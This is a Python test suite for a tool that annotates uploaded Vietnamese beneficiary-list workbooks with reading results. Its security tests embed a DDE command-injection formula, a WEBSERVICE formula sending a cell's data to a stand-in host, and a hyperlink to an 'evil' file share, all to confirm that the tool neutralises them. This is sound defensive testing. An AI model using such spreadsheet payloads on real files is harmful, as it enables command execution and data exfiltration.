import io
import warnings
import zipfile
from datetime import date, datetime, time

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from beneficiaries.file_back import annotated_file
from beneficiaries.file_back.annotated_file import annotated
from beneficiaries.file_back.copied_file import copied
from beneficiaries.file_back.list_results import ListResult, Remark, RowResult
from beneficiaries.file_back.result_looks import COLOURS, Look
from beneficiaries.reading.problems import Severity
from beneficiaries.reading.result_columns import CODE, DECISION, DETAIL, NOTES_TITLE, STATE, State
from beneficiaries.reading.table_rows import SkippedRow
from beneficiaries.reading.tables import HEADING as HEADING_ROW
from documents.workbooks.sheets import BadCell, Row, Sheet, Workbook
from documents.workbooks.workbook import UnreadableFile, read_workbook
from tests.beneficiaries.corpus import LISTS, expected_answers
from tests.beneficiaries.made_workbooks import DUC, HEADING, HONG, with_parts, xlsx
from tests.beneficiaries.results import answer, read, result_of

READABLE = sorted(name for name, expected in expected_answers().items() if not expected.get("bad"))
CHART_SHEET = "da-nang-marks-far-away.xlsx"  # with a sheet that openpyxl cannot open
NO_COPY = [name for name in READABLE if name.endswith(".xlsx") and name != CHART_SHEET]
BAD_STYLES = (
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts><font><sz val="x"/></font></fonts></styleSheet>'
)
BROKEN_DATE = (2, "Trần Văn Đức", "31/02/1974", *DUC[3:])


def opened(content, **options):
    return openpyxl.load_workbook(io.BytesIO(content), **options)


def back(content, gazetteer):
    return annotated(content, result_of(read(content, gazetteer)))


def fill(cell):
    return cell.fill.fgColor.rgb if cell.fill.fill_type else ""


def _moment(value):
    """A day that is written as a text (ISO) comes as a date and goes as a moment."""
    return datetime.combine(value, time()) if type(value) is date else value


def cells_of(sheet, columns=None):
    return {
        cell.coordinate: (cell.data_type, _moment(cell.value))
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None and (columns is None or cell.column <= columns)
    }


@pytest.mark.parametrize("name", READABLE)
def test_the_file_back_of_every_list_is_read_like_the_list(name, gazetteer):
    content = (LISTS / name).read_bytes()
    found = read(content, gazetteer)
    again = read(annotated(content, result_of(found)), gazetteer)
    is_copy = not name.endswith(".xlsx")
    assert answer(again, old_fonts=not is_copy) == answer(found, old_fonts=not is_copy)
    assert [sheet.unknown_columns for sheet in again.sheets if sheet.rows] == [
        sheet.unknown_columns for sheet in found.sheets if sheet.rows
    ]


@pytest.mark.parametrize("name", READABLE[::4])
def test_a_file_back_that_comes_again_gets_new_results_in_the_same_place(name, gazetteer):
    content = (LISTS / name).read_bytes()
    once = back(content, gazetteer)
    twice = annotated(once, result_of(read(once, gazetteer)))
    first, second = opened(once), opened(twice)
    assert second.sheetnames == first.sheetnames
    assert [sheet.dimensions for sheet in second.worksheets[1:]] == [sheet.dimensions for sheet in first.worksheets[1:]]
    assert sum(cell == STATE for sheet in second.worksheets for row in sheet.values for cell in row) == sum(
        cell == STATE for sheet in first.worksheets for row in sheet.values for cell in row
    )


def test_rows_that_a_comma_has_split_are_asked_about_however_often_the_file_goes_back(gazetteer):
    content = (LISTS / "bac-ninh-commas-in-cells.csv").read_bytes()
    asked = [row.row for row in read(content, gazetteer).rows if "row_overflows" in {one.code for one in row.problems}]
    assert asked
    for _time in range(2):
        content = back(content, gazetteer)
        found = read(content, gazetteer)
        assert [row.row for row in found.rows if "row_overflows" in {one.code for one in row.problems}] == asked


@pytest.mark.parametrize("name", NO_COPY)
def test_every_cell_of_the_workbook_is_as_it_came(name, gazetteer):
    content = (LISTS / name).read_bytes()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        came = opened(content)
    went = opened(back(content, gazetteer))
    assert went.sheetnames[1:] == came.sheetnames
    for sheet in came.worksheets:
        other = went[sheet.title]
        ours = {key: value for key, value in cells_of(other).items() if key not in cells_of(sheet)}
        assert {key: cells_of(other).get(key) for key in cells_of(sheet)} == cells_of(sheet)
        assert {data_type for data_type, _ in ours.values()} <= {"s"}
        assert other.merged_cells == sheet.merged_cells
        assert other.sheet_state == sheet.sheet_state
        for letter, dimension in sheet.column_dimensions.items():
            assert other.column_dimensions[letter].width == dimension.width
        marked = {coordinate for coordinate in cells_of(sheet) if fill(other[coordinate]) in COLOURS.values()}
        for coordinate in cells_of(sheet).keys() - marked:
            assert repr(other[coordinate].font) == repr(sheet[coordinate].font)
            assert other[coordinate].number_format == sheet[coordinate].number_format
            assert repr(other[coordinate].fill) == repr(sheet[coordinate].fill)


@pytest.mark.parametrize("name", [name for name in NO_COPY if "formula" in name or "mixture" in name])
def test_formulas_keep_the_results_they_came_with(name, gazetteer):
    content = (LISTS / name).read_bytes()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        came, formulas = opened(content, data_only=True), opened(content)
    went = opened(back(content, gazetteer), data_only=True)
    for sheet in formulas.worksheets:
        for coordinate, (data_type, _) in cells_of(sheet).items():
            if data_type == "f":
                assert went[sheet.title][coordinate].value == came[sheet.title][coordinate].value


def test_results_stand_right_of_the_table_and_mark_the_cells_at_fault(gazetteer):
    book = opened(back(xlsx(HEADING, HONG, BROKEN_DATE), gazetteer))
    assert book.sheetnames == ["Kết quả đọc", "Sheet1"]
    assert book.active.title == "Kết quả đọc"
    sheet = book["Sheet1"]
    assert [sheet["H1"].value, sheet["I1"].value] == [STATE, DETAIL]
    assert [sheet["H2"].value, sheet["H3"].value] == ["Sẵn sàng", "Cần xử lý"]
    assert sheet["I3"].value.startswith("Cần xử lý – Ngày sinh: ")
    assert fill(sheet["C3"]) == COLOURS[Look.ERROR]
    assert sheet["C3"].value == "31/02/1974"
    assert sheet["C3"].comment.text == f"Trao: {sheet['I3'].value}"
    assert fill(sheet["B3"]) == ""
    assert sheet.column_dimensions["I"].width == 60
    assert [one.title for one in book.worksheets if one.sheet_view.tabSelected] == ["Kết quả đọc"]


def test_the_first_sheet_says_how_many_and_why_rows_are_no_people(gazetteer):
    content = xlsx(("DANH SÁCH ĐỀ NGHỊ",), HEADING, HONG, BROKEN_DATE, (None, "Tổng cộng", 2))
    notes = [row[0] for row in opened(back(content, gazetteer)).worksheets[0].values]
    assert notes[0] == NOTES_TITLE
    assert notes[1] == "Tệp: danh-sach.xlsx"
    rows = [[cell for cell in row if cell is not None] for row in opened(back(content, gazetteer)).worksheets[0].values]
    assert ["Số người đọc được", 2] in rows
    assert ["Sẵn sàng", 1] in rows
    assert ["Sheet1", 5, "Dòng cộng", "Tổng cộng | 2"] in rows


def test_codes_decisions_and_reasons_are_told_of_an_accepted_list():
    content = xlsx(HEADING, HONG, DUC)
    rows = [
        RowResult("Sheet1", 2, State.TAKEN, code="TET2027-00001", decision="Đã duyệt"),
        RowResult("Sheet1", 3, State.SET_ASIDE, reason="=Đã mất"),
    ]
    result = ListResult("ds.xlsx", rows, {"Sheet1": (SkippedRow(1, HEADING_ROW, ""),)}, nominated=True)
    sheet = opened(annotated(content, result))["Sheet1"]
    assert [[cell.value for cell in row] for row in sheet["H1:K3"]] == [
        [STATE, DETAIL, CODE, DECISION],
        ["Đã tiếp nhận", None, "TET2027-00001", "Đã duyệt"],
        ["Để riêng", "Lý do để riêng: =Đã mất", None, None],
    ]


def test_texts_that_look_like_formulas_stay_texts(gazetteer):
    def as_texts(book):
        sheet = book.active
        for place, text in (("B2", "=cmd|' /C calc'!A0"), ("F2", "@SUM(1)"), ("G2", "+Hộ nghèo")):
            sheet[place].value = text
            sheet[place].data_type = "s"

    content = xlsx(HEADING, HONG, DUC, sheet="=1+1", adjust=as_texts)
    sheet = opened(back(content, gazetteer))["=1+1"]
    assert [(sheet[place].data_type, sheet[place].value) for place in ("B2", "F2", "G2")] == [
        ("s", "=cmd|' /C calc'!A0"),
        ("s", "@SUM(1)"),
        ("s", "+Hộ nghèo"),
    ]
    result = ListResult(
        "=1+1", [RowResult("=1+1", 2, State.READY, code="=HYPERLINK(1)", decision="@x")], nominated=True
    )
    book = opened(annotated(content, result))
    notes, sheet = book.worksheets
    assert (sheet["J2"].data_type, sheet["J2"].value, sheet["J2"].quotePrefix) == ("s", "=HYPERLINK(1)", True)
    assert (sheet["K2"].data_type, sheet["K2"].quotePrefix) == ("s", True)
    assert notes["A2"].data_type == "s"
    assert {cell.data_type for row in notes.iter_rows() for cell in row} <= {"s", "n"}


def test_formulas_that_reach_outside_become_what_they_last_gave(gazetteer):
    def with_formulas(book):
        sheet = book.active
        sheet["H1"], sheet["H2"], sheet["H3"] = "Ghi chú", "=A2&B2", "=[1]Sheet9!A1"
        sheet["I1"], sheet["I2"], sheet["I3"] = "Điểm", "=cmd|'/c calc'!A0", '=WEBSERVICE("http://x.example/"&B2)'
        sheet["B3"].hyperlink = "file://///evil/share"
        book.defined_names["Outside"] = DefinedName("Outside", attr_text="[1]Sheet9!$A$1")
        book.defined_names["Inside"] = DefinedName("Inside", attr_text="Sheet1!$A$1")
        asked = DataValidation(type="list", formula1="[1]Sheet9!$A$1:$A$3")
        asked.add("D2")
        sheet.add_data_validation(asked)

    content = xlsx(HEADING, HONG, DUC, adjust=with_formulas)
    book = opened(back(content, gazetteer))
    sheet = book["Sheet1"]
    assert (sheet["H2"].data_type, sheet["H2"].value) == ("f", "=A2&B2")
    # They came without a stored result, so that no text can be put in their place.
    assert [(sheet[place].data_type, sheet[place].value) for place in ("H3", "I2", "I3")] == [("e", "#VALUE!")] * 3
    assert sheet["B3"].hyperlink is None
    assert sheet["B3"].value == "Trần Văn Đức"
    assert list(book.defined_names) == ["Inside"]
    assert sheet.data_validations.dataValidation == []


def test_an_outside_formula_with_a_result_is_replaced_by_it(gazetteer):
    content = xlsx(HEADING, HONG, (*DUC, "=[1]S!A1"), adjust=lambda book: book.active.__setitem__("H1", "Ghi chú"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read("xl/worksheets/sheet1.xml").decode()
    part = part.replace('<c r="H3"><f>[1]S!A1</f><v />', '<c r="H3" t="str"><f>[1]S!A1</f><v>=x</v>')
    sheet = opened(back(with_parts(content, xl_x_worksheets_x_sheet1__xml=part), gazetteer))["Sheet1"]
    assert (sheet["H3"].data_type, sheet["H3"].value) == ("s", "=x")


def test_macros_and_links_stay_behind(gazetteer):
    content = with_parts(xlsx(HEADING, HONG), xl_x_vbaProject__bin=b"macro", xl_x_externalLinks_x_x__xml="<x/>")
    with zipfile.ZipFile(io.BytesIO(back(content, gazetteer))) as archive:
        names = archive.namelist()
    assert [name for name in names if "vba" in name or "external" in name] == []


def test_comments_of_others_are_kept_and_ours_go_when_the_file_comes_back(gazetteer):
    def commented(book):
        book.active["C3"].comment = Comment("Hỏi lại thôn", "Lan")
        book.active["C3"].font = Font(italic=True)
        book.active["E2"].fill = PatternFill("solid", fgColor="FF00FF00")

    once = back(xlsx(HEADING, HONG, BROKEN_DATE, adjust=commented), gazetteer)
    sheet = opened(once)["Sheet1"]
    assert sheet["C3"].comment.text.splitlines()[0] == "Hỏi lại thôn"
    assert sheet["C3"].comment.text.splitlines()[1].startswith("Trao: Cần xử lý – Ngày sinh")
    assert sheet["C3"].font.italic
    assert fill(sheet["E2"]) == "FF00FF00"
    book = opened(back(xlsx(HEADING, HONG, BROKEN_DATE), gazetteer))
    book["Sheet1"]["C3"] = "28/02/1974"
    saved = io.BytesIO()
    book.save(saved)
    mended = opened(back(saved.getvalue(), gazetteer))["Sheet1"]
    assert [mended["H2"].value, mended["H3"].value, mended["I3"].value] == ["Sẵn sàng", "Sẵn sàng", None]
    assert mended["C3"].comment is None
    assert fill(mended["C3"]) != COLOURS[Look.ERROR]
    assert mended.max_column == 9


def test_a_mark_on_a_merged_cell_stands_on_its_first(gazetteer):
    content = xlsx(HEADING, HONG, DUC, adjust=lambda book: book.active.merge_cells("F2:F3"))
    remark = Remark("hamlet", Severity.WARNING, "Thôn này chưa rõ.", (5,))
    result = ListResult("x", [RowResult("Sheet1", 3, State.READY, remarks=(remark,))])
    sheet = opened(annotated(content, result))["Sheet1"]
    assert fill(sheet["F2"]) == COLOURS[Look.WARNING]
    assert sheet["F2"].comment.text == "Trao: Cần xem lại – Thôn: Thôn này chưa rõ."


def test_a_large_file_becomes_a_workbook_of_its_cells(gazetteer, monkeypatch):
    monkeypatch.setattr(annotated_file, "MOST_SHEET_BYTES", 100)

    def dressed(book):
        book.active["C2"] = datetime(1962, 3, 5)
        book.active.merge_cells("A5:C5")
        book.active["A5"] = "=1+1"
        book.active["A5"].data_type = "s"
        book.active.row_dimensions[3].hidden = True

    content = xlsx(HEADING, HONG, BROKEN_DATE, adjust=dressed)
    book = opened(back(content, gazetteer))
    sheet = book["Sheet1"]
    assert any("Tệp gửi lên rất lớn" in str(cell) for row in book.worksheets[0].values for cell in row)
    assert [sheet["H1"].value, sheet["H2"].value, sheet["H3"].value] == [STATE, "Sẵn sàng", "Cần xử lý"]
    assert sheet["B1"].font.bold
    assert (sheet["C2"].value, sheet["C2"].number_format) == (datetime(1962, 3, 5), "dd/mm/yyyy")
    assert fill(sheet["C3"]) == COLOURS[Look.ERROR]
    assert (sheet["A5"].data_type, sheet["A5"].value, sheet["A5"].quotePrefix) == ("s", "=1+1", True)
    assert str(sheet.merged_cells) == "A5:C5"
    assert sheet.row_dimensions[3].hidden


def test_a_workbook_that_openpyxl_cannot_take_becomes_one_of_its_cells(gazetteer):
    content = with_parts(xlsx(HEADING, HONG), xl_x_styles__xml=BAD_STYLES)
    book = opened(back(content, gazetteer))
    assert any("có phần không chép được" in str(cell) for row in book.worksheets[0].values for cell in row)
    assert book["Sheet1"]["B2"].value == "Nguyễn Thị Hồng"
    assert book["Sheet1"]["H2"].value == "Sẵn sàng"


def test_a_text_file_becomes_a_workbook(gazetteer):
    content = "Họ và tên;Ngày sinh\nNguyễn Thị Hồng;05/03/1962\n".encode()
    assert opened(back(content, gazetteer)).worksheets[1]["B2"].value == "05/03/1962"


def test_bytes_that_are_no_list_are_refused():
    with pytest.raises(UnreadableFile):
        annotated(b"%PDF-1.4", ListResult("x.pdf", []))


def test_a_copy_says_every_kind_of_cell():
    cells = (
        True,
        1.5,
        7,
        date(1899, 1, 2),
        date(1962, 3, 5),
        BadCell("#N/A"),
        BadCell("=A1"),
        BadCell("Err:502"),
        "\tx",
    )
    book = Workbook((Sheet("A/B:C" * 9, (Row(2, cells, True),), hidden=True), Sheet("a b c" * 9, ())))
    written = opened(copied(book, ListResult("x", []), ()))
    sheet = written.worksheets[1]
    assert [cell.value for cell in sheet[2]] == [
        *(True, 1.5, 7, "02/01/1899", datetime(1962, 3, 5), "#N/A", "#VALUE!", "#VALUE!", "\tx")
    ]
    assert sheet.sheet_state == "hidden"
    assert all(len(name) <= 31 for name in written.sheetnames)
    assert len({name.lower() for name in written.sheetnames}) == 3
    mac = read_workbook(copied(Workbook(book.sheets, date_1904=True), ListResult("x", []), ()))
    assert mac.date_1904
    assert mac.sheets[1].rows[0].cells[4] in (date(1962, 3, 5), datetime(1962, 3, 5))


def test_merged_cells_that_overlap_are_no_obstacle():
    content = xlsx(HEADING, HONG, DUC, adjust=lambda book: book.active.merge_cells("A2:B3"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read("xl/worksheets/sheet1.xml").decode()
    part = part.replace('<mergeCells count="1">', '<mergeCells count="2"><mergeCell ref="B3:C4"/>')
    remark = Remark("hamlet", Severity.WARNING, "Chưa rõ.", (2,))
    result = ListResult("x", [RowResult("Sheet1", 3, State.READY, remarks=(remark,))])
    sheet = opened(annotated(with_parts(content, xl_x_worksheets_x_sheet1__xml=part), result))["Sheet1"]
    assert sheet["H3"].value == "Sẵn sàng"


def test_a_copy_that_comes_back_loses_its_earlier_sheet_of_results(gazetteer, monkeypatch):
    once = back(xlsx(HEADING, HONG, BROKEN_DATE), gazetteer)
    monkeypatch.setattr(annotated_file, "MOST_SHEET_BYTES", 100)
    twice = opened(back(once, gazetteer))
    assert twice.sheetnames == ["Kết quả đọc", "Sheet1"]
    assert [twice["Sheet1"]["H1"].value, twice["Sheet1"]["J1"].value] == [STATE, None]


def test_beyond_so_many_only_the_column_explains(gazetteer, monkeypatch):
    monkeypatch.setattr(annotated_file, "MOST_COMMENTS", 1)
    book = opened(back(xlsx(HEADING, BROKEN_DATE, *[(*BROKEN_DATE[:2], "30/02/1975", *DUC[3:])] * 2), gazetteer))
    comments = [cell for row in book["Sheet1"].iter_rows() for cell in row if cell.comment]
    assert len(comments) == 1
    assert any("Ghi chú chỉ gắn ở" in str(cell) for row in book.worksheets[0].values for cell in row)


def test_only_so_many_skipped_rows_are_listed():
    skipped = [SkippedRow(number, "Dòng cộng", "Cộng") for number in range(3, 600)]
    result = ListResult("x", [RowResult("Sheet1", 2, State.READY)], {"Sheet1": skipped}, {"Sheet1": ["Cỡ áo"]})
    notes = list(opened(annotated(xlsx(HEADING, HONG), result)).worksheets[0].values)
    assert notes[-1][0] == "… và 97 dòng khác"
    assert ("Sheet1", None, "Cỡ áo", None) in notes


def test_what_formulas_gave_of_every_kind_is_kept(gazetteer):
    content = xlsx((*HEADING, *["Ghi chú"] * 4), (*HONG, "=1=1", "=NA()", "=TODAY()", "=1/4", "=A9"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        part = archive.read("xl/worksheets/sheet1.xml").decode()
    for place, kind, value in (("H2", "b", "1"), ("I2", "e", "#N/A"), ("J2", "d", "2026-01-02"), ("K2", "n", "0.25")):
        start = part.index(f'<c r="{place}"')
        end = part.index("</c>", start)
        cell = part[start:end].replace("<v />", f"<v>{value}</v>").replace("<v></v>", f"<v>{value}</v>")
        part = part[:start] + cell.replace(f'r="{place}"', f'r="{place}" t="{kind}"') + part[end:]
    went = opened(back(with_parts(content, xl_x_worksheets_x_sheet1__xml=part), gazetteer), data_only=True)["Sheet1"]
    assert [went[place].value for place in ("H2", "I2", "K2", "L2")] == [True, "#N/A", 0.25, None]
    assert went["J2"].value == 46024
